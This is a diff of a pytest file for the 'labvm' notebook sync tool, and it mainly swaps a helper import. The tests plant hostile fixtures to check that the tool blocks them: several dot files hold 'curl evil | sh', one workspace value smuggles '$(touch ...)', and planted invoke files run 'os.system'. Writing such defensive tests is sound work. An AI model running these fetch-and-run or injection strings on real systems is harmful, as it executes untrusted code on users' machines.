@@ -21,11 +21,9 @@ import pytest
 import yaml
 from hypothesis import HealthCheck, given, settings, strategies as st
 
-import test_sync
 from labvm import config as labvm_config
 from labvm.errors import LabvmError
-from realhost import free_port, ssh_profile
-from test_hostile_input import one_line
+from realhost import free_port, one_line, put, ssh_profile
 
 SECRET = "ghp_s3cr3tTOKENvalue"
 ALLOWED_FROM_ENVIRONMENT = {"USER", "AWS_PROFILE", "AWS_DEFAULT_REGION", "OS_CLOUD", "GOOGLE_CLOUD_PROJECT"}  # + LABVM_*
@@ -260,11 +258,11 @@ def workspace(user):
 def test_no_pattern_brings_a_dot_file_home(lab, user, sshd, workspace):
     """rsync's * and [.] match a leading dot: the patterns pass the check, the files still stay away."""
     lab.write_hosts({"vm": ssh_profile(user, sshd, sync=["*rc", "[.]profile", "*", "*/*"])})
-    test_sync.put(user, ".bashrc", "curl evil | sh\n")
-    test_sync.put(user, ".profile", "curl evil | sh\n")
-    test_sync.put(user, ".aws/credentials", "[default]\n")
-    test_sync.put(user, "sub/.envrc", "curl evil | sh\n")
-    test_sync.put(user, "notes.md", "# notes\n")
+    put(user, ".bashrc", "curl evil | sh\n")
+    put(user, ".profile", "curl evil | sh\n")
+    put(user, ".aws/credentials", "[default]\n")
+    put(user, "sub/.envrc", "curl evil | sh\n")
+    put(user, "notes.md", "# notes\n")
     lab.inv("sync", "--host", "vm")
     home = lab.directory / "notebooks" / "vm"
     assert sorted(str(p.relative_to(home)) for p in home.rglob("*") if not p.name.startswith(".labvm-sync")) \
@@ -273,7 +271,7 @@ def test_no_pattern_brings_a_dot_file_home(lab, user, sshd, workspace):
 
 def test_a_push_never_sends_a_dot_file(lab, user, sshd, workspace):
     lab.write_hosts({"vm": ssh_profile(user, sshd, sync=["*"])})
-    test_sync.put(user, "keep.md", "on the VM\n")
+    put(user, "keep.md", "on the VM\n")
     lab.inv("sync", "--host", "vm")
     home = lab.directory / "notebooks" / "vm"
     (home / ".netrc").write_text("machine example.org password secret\n")
@@ -317,7 +315,7 @@ def test_a_hostile_workspace_never_reaches_the_vms_shell_even_with_old_rsync_arg
     marker = user.home / "PWNED"
     lab.extra_env["RSYNC_OLD_ARGS"] = "1"
     lab.write_hosts({"vm": ssh_profile(user, sshd, notebook={"workspace": f"work/$(touch {marker})"})})
-    test_sync.put(user, "a.ipynb", "{}")
+    put(user, "a.ipynb", "{}")
     result = lab.inv("sync", "--host", "vm", check=False)
     assert not marker.exists()
     one_line(result, "profiles.vm.notebook.workspace: must be a plain")
@@ -327,7 +325,7 @@ def test_a_hostile_workspace_never_reaches_the_vms_shell_even_with_old_rsync_arg
 
 def test_a_workspace_with_every_allowed_character_syncs(lab, user, sshd, workspace):
     lab.write_hosts({"vm": ssh_profile(user, sshd, notebook={"workspace": "~/work/a+b,c=d@e_f-g.h"})})
-    test_sync.put(user, "a+b,c=d@e_f-g.h/n.ipynb", "{}")
+    put(user, "a+b,c=d@e_f-g.h/n.ipynb", "{}")
     assert "1 file(s) brought home" in lab.inv("sync", "--host", "vm").output
     assert (lab.directory / "notebooks" / "vm" / "n.ipynb").read_text() == "{}"
 
@@ -338,9 +336,9 @@ def test_invoke_files_stay_on_the_vm_and_the_sync_says_so(lab, user, sshd, works
     lab.write_hosts({"vm": ssh_profile(user, sshd)})
     planted = ["tasks.py", "invoke.py", "invoke.yaml", "invoke.json", "sub/tasks.py", "tasks/__init__.py"]
     for name in planted:
-        test_sync.put(user, name, "import os; os.system('touch PWNED')\n")
-    test_sync.put(user, "analysis.py", "x = 1\n")
-    test_sync.put(user, "tasks/notes.md", "# notes\n")
+        put(user, name, "import os; os.system('touch PWNED')\n")
+    put(user, "analysis.py", "x = 1\n")
+    put(user, "tasks/notes.md", "# notes\n")
     result = lab.inv("sync", "--host", "vm")
     home = lab.directory / "notebooks" / "vm"
     assert sorted(str(p.relative_to(home)) for p in home.rglob("*") if p.is_file()
@@ -356,8 +354,8 @@ def test_invoke_files_stay_on_the_vm_and_the_sync_says_so(lab, user, sshd, works
 
 def test_a_file_over_sync_max_file_stays_on_the_vm_and_is_named(lab, user, sshd, workspace):
     lab.write_hosts({"vm": ssh_profile(user, sshd, sync_max_file="1M")})
-    test_sync.put(user, "small.ipynb", "{}")
-    test_sync.put(user, "huge.ipynb", "x" * (2 * 2**20))
+    put(user, "small.ipynb", "{}")
+    put(user, "huge.ipynb", "x" * (2 * 2**20))
     result = lab.inv("sync", "--host", "vm")
     home = lab.directory / "notebooks" / "vm"
     assert (home / "small.ipynb").exists() and not (home / "huge.ipynb").exists()
@@ -366,7 +364,7 @@ def test_a_file_over_sync_max_file_stays_on_the_vm_and_is_named(lab, user, sshd,
 
 def test_a_sparse_file_stays_sparse_on_the_laptop(lab, user, sshd, workspace):
     lab.write_hosts({"vm": ssh_profile(user, sshd)})
-    test_sync.put(user, "sparse.ipynb", "")
+    put(user, "sparse.ipynb", "")
     os.truncate(workspace / "sparse.ipynb", 50 * 2**20)  # 50 MB, no block written
     lab.inv("sync", "--host", "vm")
     copy = lab.directory / "notebooks" / "vm" / "sparse.ipynb"
@@ -377,8 +375,8 @@ def test_a_sparse_file_stays_sparse_on_the_laptop(lab, user, sshd, workspace):
 def test_a_sync_over_sync_max_total_copies_nothing_and_says_how_to_go_on(lab, user, sshd, workspace):
     lab.write_hosts({"vm": ssh_profile(user, sshd, sync_max_file="1M", sync_max_total="2M")})
     for n in range(6):
-        test_sync.put(user, f"part{n}.ipynb", str(n) * 900_000)
-    test_sync.put(user, "tasks.py", "x" * 900_000)  # never comes, so it does not count
+        put(user, f"part{n}.ipynb", str(n) * 900_000)
+    put(user, "tasks.py", "x" * 900_000)  # never comes, so it does not count
     one_line(lab.inv("sync", "--host", "vm", check=False), "sync: the host offers 5.1 MB",
              "more than sync_max_total (2.0 MB); nothing was copied", f"raise {lab.hosts}: profiles.vm.sync_max_total")
     home = lab.directory / "notebooks" / "vm"
